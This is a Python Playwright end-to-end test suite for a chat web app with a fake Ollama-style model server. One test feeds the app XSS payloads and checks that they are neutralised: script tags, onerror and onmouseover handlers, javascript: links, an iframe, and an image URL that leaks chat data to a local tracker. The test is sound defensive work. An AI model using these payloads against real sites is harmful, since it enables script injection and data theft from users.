"""End to end in real headless Chromium (Debian's), driven by Playwright, against gunicorn with
PostgreSQL and the Ollama-protocol test server. Screenshots land in tests/artifacts/."""
import http.server
import threading
import time

import pytest
from playwright.sync_api import expect

from helpers import PASSWORD, ask, last_answer, shoot, sign_in_page

pytestmark = pytest.mark.browser
REPLY = "Here is **a list**:\n\n- one\n- two\n- three\n\n```python\nprint('hello')\n```\n\nThat is all for now, friend."


def test_chat_streams_in_steps_and_survives_reload(page, ollama):
    ollama.script(reply=REPLY, delay=0.12)
    sign_in_page(page)
    ask(page, "Show me a list")
    expect(page.locator("article.message.user").last).to_contain_text("Show me a list")
    answer = last_answer(page)
    seen = set()
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline and len(seen) < 3:
        seen.add(answer.locator(".text").inner_text())
        time.sleep(0.05)
    assert len([s for s in seen if s]) >= 2, seen  # several partial states, not one final jump
    expect(page.locator("#send")).to_be_disabled()  # no second turn while this one runs
    page.reload()  # mid-answer
    answer = last_answer(page)
    expect(answer).to_contain_text("That is all for now, friend.", timeout=10000)
    expect(answer.locator("li")).to_have_count(3)
    expect(answer.locator("pre code .nb")).to_have_text("print")  # highlighted on the server
    expect(answer.locator(".stats")).to_contain_text("tok/s")
    expect(page.locator("#send")).to_be_enabled()
    entry = page.locator("#conversation-list li.conversation-item").first
    expect(entry).to_contain_text("2 msg")  # the sidebar caught up without a reload
    expect(entry).not_to_contain_text("answering")
    expect(page.locator(".llm-status")).to_contain_text("Model server online")
    shoot(page, "chat-desktop-light")
    page.emulate_media(color_scheme="dark")
    shoot(page, "chat-desktop-dark")
    page.set_viewport_size({"width": 360, "height": 740})
    shoot(page, "chat-phone-dark")
    page.emulate_media(color_scheme="light")
    shoot(page, "chat-phone-light")
    page.get_by_role("button", name="Show conversations").click()
    expect(page.locator("#sidebar")).to_be_in_viewport()
    shoot(page, "sidebar-phone-light")
    assert not [m for m in page.console if "Content Security Policy" in m], page.console


def test_stop_closes_the_model_connection(page, ollama):
    ollama.script(reply="word " * 60, delay=0.2)
    sign_in_page(page)
    ask(page, "Talk for a long time")
    answer = last_answer(page)
    expect(answer.locator(".text")).to_contain_text("word", timeout=5000)
    stopped_at = time.monotonic()
    answer.get_by_role("button", name="Stop").click()
    event = ollama.wait_for_event("client_closed", timeout=3)
    assert event is not None and event[1] - stopped_at < 1.5
    expect(last_answer(page).locator(".message-footer")).to_contain_text("Stopped.")
    expect(last_answer(page).get_by_role("button", name="Retry")).to_be_visible()


def test_retry_after_ollama_failure(page, ollama):
    ollama.script(fail="status", status=500)
    sign_in_page(page, screenshot="signin-desktop-light")
    ask(page, "Will this work?")
    expect(last_answer(page)).to_contain_text("The model server failed while answering.")
    shoot(page, "error-desktop-light")
    ollama.script(reply="Yes, now it works.")
    last_answer(page).get_by_role("button", name="Retry").click()
    expect(last_answer(page)).to_contain_text("Yes, now it works.")
    expect(page.locator("article.message.user")).to_have_count(1)


def test_rename_search_delete_and_sign_out(page, ollama):
    sign_in_page(page)
    ask(page, "about penguins")
    expect(last_answer(page).locator(".stats")).to_be_visible()
    page.locator("a.new-chat").click()
    page.wait_for_url("**/?new=1")
    ask(page, "about volcanoes")
    expect(page.locator("#conversation-list li.conversation-item")).to_have_count(2)
    expect(last_answer(page).locator(".stats")).to_be_visible()
    # Another turn in the older chat moves it to the top of the sidebar, no reload needed.
    items = page.locator("#conversation-list li.conversation-item")
    page.locator("#conversation-list a", has_text="about penguins").click()
    expect(page.get_by_label("Conversation title")).to_have_value("about penguins")
    expect(items.first).to_contain_text("about volcanoes")
    ask(page, "and their eggs?")
    expect(items.first).to_contain_text("about penguins")
    expect(items.first).to_contain_text("4 msg")
    expect(items).to_have_count(2)
    expect(page.locator("#messages template")).to_have_count(0)  # the sidebar update left no trace
    page.locator("#conversation-list a", has_text="about volcanoes").click()
    expect(page.get_by_label("Conversation title")).to_have_value("about volcanoes")
    page.get_by_label("Conversation title").fill("Fire mountains")
    page.get_by_role("button", name="Rename").click()
    expect(page.locator("#conversation-list")).to_contain_text("Fire mountains")
    page.get_by_label("Search conversations").fill("penguin")
    expect(page.locator("#conversation-list li.conversation-item")).to_have_count(1)
    expect(page.locator("#conversation-list")).to_contain_text("about penguins")
    page.locator("details.conversation-settings summary").click()
    page.get_by_role("button", name="Delete conversation").click()
    assert page.dialogs and "cannot be undone" in page.dialogs[-1]
    # The delete redirects to the remaining chat: wait for that page, not the filtered old one.
    expect(page.get_by_label("Conversation title")).to_have_value("about penguins")
    expect(page.locator("#conversation-list li.conversation-item")).to_have_count(1)
    expect(page.locator("#conversation-list")).not_to_contain_text("Fire mountains")
    page.get_by_role("button", name="Sign out").click()
    expect(page).to_have_url(page.base + "/login")


def test_hostile_model_output_does_nothing(page, ollama):
    hits = []

    class Tracker(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            hits.append(self.path)
            self.send_response(200)
            self.end_headers()

        def log_message(self, *args):
            pass
    tracker = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Tracker)
    threading.Thread(target=tracker.serve_forever, daemon=True).start()
    remote = f"http://127.0.0.1:{tracker.server_address[1]}"
    hostile = (f"<script>window.__pwned = 1; alert('script')</script>\n\n"
               f"<img src=x onerror=\"window.__pwned = 2; alert('img')\">\n\n"
               f"[click me](javascript:window.__pwned=3)\n\n"
               f"![leak]({remote}/pixel.png?chat=secret)\n\n"
               f"<iframe src=\"{remote}/frame\"></iframe>\n\n"
               f"<a href=\"javascript:alert(4)\">raw link</a> and <b onmouseover=alert(5)>bold</b>")
    ollama.script(chunks=[hostile[i:i + 7] for i in range(0, len(hostile), 7)], delay=0.01)
    try:
        sign_in_page(page)
        ask(page, "be evil")
        answer = last_answer(page)
        expect(answer.locator(".stats")).to_be_visible(timeout=10000)
        page.reload()
        answer = last_answer(page)
        expect(answer).to_contain_text("click me")
        answer.get_by_text("click me").click()
        answer.get_by_text("bold").hover()
        time.sleep(0.5)
        assert page.evaluate("window.__pwned") is None
        assert page.dialogs == []
        assert answer.locator("img, iframe, script").count() == 0
        assert hits == []  # the remote image never loaded: nothing leaked
        assert "<script>" in answer.inner_text()  # shown as text, harmless
    finally:
        tracker.shutdown()


def test_works_without_javascript(chromium, server, ollama):
    context = chromium.new_context(java_script_enabled=False)
    page = context.new_page()
    page.goto(server.url + "/login")
    page.get_by_label("Username").fill("alice")
    page.get_by_label("Password").fill(PASSWORD)
    page.get_by_role("button", name="Sign in").click()
    page.locator("#prompt").fill("plain form please")
    page.get_by_role("button", name="Send").click()
    expect(page.locator("article.message.user")).to_contain_text("plain form please")
    time.sleep(0.5)
    page.reload()
    expect(last_answer(page)).to_contain_text("Hello from the fake model.")
    context.close()
